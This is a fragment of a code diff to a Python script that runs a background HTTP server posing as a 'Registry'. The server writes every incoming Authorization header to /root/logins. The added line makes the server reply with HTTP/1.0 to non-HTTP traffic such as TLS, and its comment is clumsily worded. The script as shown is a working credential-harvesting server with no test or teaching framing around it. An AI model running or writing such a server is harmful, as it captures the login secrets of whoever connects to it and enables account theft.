@@ -225,6 +225,7 @@ import os
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 if os.fork(): os._exit(0)
 class Registry(BaseHTTPRequestHandler):
+    default_request_version = "HTTP/1.0"  # what is no HTTP, as TLS, is answered with a status line
     def do_GET(self):
         login = self.headers.get("Authorization", "")
         with open("/root/logins", "a") as file: file.write(login + "\\n")
